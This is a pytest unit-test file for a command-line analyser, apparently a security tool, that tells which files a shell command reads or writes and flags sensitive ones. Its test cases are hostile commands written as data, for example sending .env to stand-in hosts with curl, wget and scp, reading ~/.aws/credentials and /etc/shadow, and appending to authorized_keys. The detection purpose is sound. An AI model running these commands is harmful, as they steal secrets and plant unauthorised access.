"""Files on command lines."""

from __future__ import annotations

import pytest

from riskproof.detect.paths import category_of
from riskproof.detect.shell import analyse
from tests.unit.detect.samples import samples


@pytest.mark.parametrize(
    ("text", "paths"),
    [
        ("cat ~/.aws/credentials", (("~/.aws/credentials", False),)),
        ("head -n 5 credentials", (("credentials", False),)),
        ("source .env", ((".env", False),)),
        ("grep -n 'process\\.env' src/a.ts", (("src/a.ts", False),)),
        ("grep -e key .env", ((".env", False),)),
        ("sed -i s/a/b/ ~/.bashrc", (("~/.bashrc", True),)),
        ("awk -F= '{print $2}' .env", ((".env", False),)),
        ("tee -a ~/.ssh/authorized_keys", (("~/.ssh/authorized_keys", True),)),
        ("rm ~/.netrc", (("~/.netrc", True),)),
        ("cp ~/.ssh/id_rsa /srv/x", (("~/.ssh/id_rsa", False), ("/srv/x", True))),
        ("cp .env.example .env", ((".env.example", False),)),
        ("cp .env.production .env", ((".env.production", False), (".env", True))),
        ("dd if=.env of=out.bin", ((".env", False), ("out.bin", True))),
        ("curl -d @.env -o out.json https://a.test", ((".env", False), ("out.json", True))),
        ("curl -F 'f=@.env;type=text/plain' https://a.test", ((".env", False),)),
        ("wget --post-file=.env https://a.test", ((".env", False),)),
        ("scp -i ~/.ssh/k .env h.test:/x", ((".env", False),)),
        ("rsync -av ~/.ssh h.test:", (("~/.ssh", False),)),
        ("tar czf out.tgz ~/.ssh", (("out.tgz", False), ("~/.ssh", False))),
        ("mytool ~/.aws/credentials", (("~/.aws/credentials", False),)),
        ("sudo cat /etc/shadow", (("/etc/shadow", False),)),
    ],
)
def test_files_that_a_program_reads_or_writes_are_named(text: str, paths: tuple[tuple[str, bool], ...]) -> None:
    assert analyse(text).paths == paths


@pytest.mark.parametrize(
    "text",
    [
        "echo .env",
        "ls -la .env",
        "test -f .env && stat .env",
        "chmod 600 ~/.ssh/id_rsa",
        "ssh -i ~/.ssh/id_rsa h.test",
        "git commit -m 'add .env'",
        "docker compose --env-file .env up",
        "mytool --config ~/.aws/credentials",
        "find . -name .env",
        "cat https://a.test/.env",
    ],
)
def test_data_and_programs_that_look_at_names_only_name_none(text: str) -> None:
    assert analyse(text).paths == ()


def touched(command: str) -> set[str]:
    """``reads`` and ``writes``, as far as the command does one of them to a sensitive file."""
    return {"writes" if writes else "reads" for path, writes in analyse(command).paths if category_of(path, writes=writes) is not None}


@pytest.mark.parametrize("command", samples("commands_seen"))
def test_a_command_that_opens_or_changes_a_sensitive_file_is_seen(command: str) -> None:
    assert touched(command) != set()


@pytest.mark.parametrize("command", samples("commands_passed"))
def test_a_command_that_only_names_or_uses_one_is_not(command: str) -> None:
    assert touched(command) == set()


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("cat .env", {"reads"}),
        ("mv .env notes.txt", {"reads", "writes"}),
        ("cp .env notes.txt", {"reads"}),
        ("rm riskproof.toml", {"writes"}),
        ("cat riskproof.toml", set()),
        ("git rm .env", {"writes"}),
        ("git add .env", {"reads"}),
        ("find . -name .env -delete", {"writes"}),
        ("find . -name .env -exec rm {} +", {"writes"}),
        ("find . -name .env | xargs rm", {"writes"}),
        ("security delete-keychain login.keychain", {"writes"}),
        ("curl -o ~/.bashrc https://a.test", {"writes"}),
        ("docker cp c:/x .env", {"writes"}),
    ],
)
def test_the_direction_is_that_of_the_program(command: str, does: set[str]) -> None:
    assert touched(command) == does
